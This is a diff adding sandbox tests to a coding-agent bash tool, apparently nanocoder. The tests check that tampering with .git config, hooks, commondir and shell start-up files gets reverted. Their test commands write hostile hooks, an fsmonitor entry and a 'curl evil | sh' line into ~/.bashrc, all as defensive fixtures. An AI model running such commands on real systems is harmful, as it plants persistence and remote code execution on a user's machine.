@@ -286,3 +286,80 @@ def test_what_leads_to_a_unix_socket_is_dropped_in_the_sandbox_unless_allowed(sc
     assert [name for name in SOCKETS if name in commands_see(workspace)] == list(SOCKETS)
     workspace.unix_sockets, workspace.sandbox_policy = False, "off"
     assert [name for name in SOCKETS if name in commands_see(workspace)] == list(SOCKETS)
+
+
+# --- 5. .git and start-up files where Landlock works alone ----------------------------------------
+
+@pytest.fixture(params=["landlock alone", "as it is here"])
+def guarded(request, scratch, monkeypatch):
+    """(HOME, the workspace, a BashTool there): with the helper unable to make a mount namespace, as for
+    most users (unshare fails, as in test_sandbox.py), and as this machine allows."""
+    from nanocoder import sandbox
+    from nanocoder.tools.bash import BashTool
+    if PROBE.support():
+        pytest.skip(PROBE.support())
+    home, work, marks = scratch
+    workspace = Workspace(work)
+    if request.param == "landlock alone":
+        no_namespace = (f"import sys; sys.path.insert(0, {str(Path(sandbox.__file__).parent)!r}); import sandbox; "
+                        "c = sandbox._c; sandbox._c = lambda f, *a: c('syscall', -1) if f == 'unshare' else c(f, *a)"
+                        "; sandbox.main(sys.argv[1:])")
+        command = workspace.sandbox.command
+        monkeypatch.setattr(workspace.sandbox, "command", lambda argv, policy, root: [
+            sys.executable, "-I", "-S", "-c", no_namespace, *command(argv, policy, root)[4:]])
+        workspace.sandbox.mounts = False
+    return home, work, BashTool(workspace)
+
+
+def run(tool, command) -> str:
+    """The result, or the error's text: with the mounts a write may be denied (and so said)."""
+    from nanocoder.tools.base import ToolError
+    try:
+        return tool.execute(command=command)
+    except ToolError as e:
+        return str(e)
+
+
+def test_git_config_hooks_commondir_and_info_are_put_back(guarded):
+    home, work, tool = guarded
+    git = work / ".git"
+    before = {name: (git / name).read_bytes() for name in ("config", "info/exclude")}
+    hooks = sorted(p.name for p in (git / "hooks").iterdir())
+    script = ("echo '[core] fsmonitor = evil' >> .git/config; printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit; "
+              "echo /elsewhere > .git/commondir; echo '*' >> .git/info/exclude; echo ran")
+    result = run(tool, script)
+    first = result.splitlines()[0]
+    assert first.startswith("[nanocoder put back what the command changed in ") and "\nran\n" in result
+    changed = ("commondir", "info") + (("config", "hooks") if tool.workspace.sandbox.mounts is False else ())
+    assert all(str(git / name) in first for name in changed), first
+    assert {name: (git / name).read_bytes() for name in before} == before
+    assert sorted(p.name for p in (git / "hooks").iterdir()) == hooks and not (git / "commondir").exists()
+    assert tool.execute(command="echo calm") == "calm\n[exit code: 0]"  # nothing changed: nothing said
+
+
+def test_a_missing_hooks_folder_cannot_be_made(guarded):
+    home, work, tool = guarded
+    shutil.rmtree(work / ".git" / "hooks")
+    result = run(tool, "mkdir -p .git/hooks && printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout")
+    assert result.startswith("[nanocoder put back") and not (work / ".git" / "hooks").exists()
+
+
+def test_hooks_replaced_by_a_link_are_put_back_and_what_it_pointed_at_is_left_alone(guarded):
+    home, work, tool = guarded
+    (home / "mine").mkdir()
+    (home / "mine" / "keep.txt").write_text("keep\n")
+    run(tool, f"rm -rf .git/hooks/*.sample; ln -sfn {home / 'mine'} .git/hooks.new; "
+                         f"rm -rf .git/hooks; mv .git/hooks.new .git/hooks")
+    assert (work / ".git" / "hooks").is_dir() and not (work / ".git" / "hooks").is_symlink()
+    assert (home / "mine" / "keep.txt").read_text() == "keep\n"
+
+
+def test_start_up_files_are_put_back_when_the_workspace_is_home(guarded):
+    home, work, tool = guarded
+    tool.workspace.root = tool.workspace.cwd = home  # as if started in HOME
+    (home / ".bashrc").write_text("alias ll=ls\n")
+    result = run(tool, "echo 'curl evil | sh' >> ~/.bashrc; mkdir -p ~/.config/fish/conf.d; "
+                                  "echo evil > ~/.config/fish/conf.d/x.fish; echo fine > ~/notes.txt")
+    assert result.startswith("[nanocoder put back") and str(home / ".config/fish") in result.splitlines()[0]
+    assert (home / ".bashrc").read_text() == "alias ll=ls\n" and not (home / ".config" / "fish").exists()
+    assert (home / "notes.txt").read_text() == "fine\n"  # the rest of HOME is the workspace
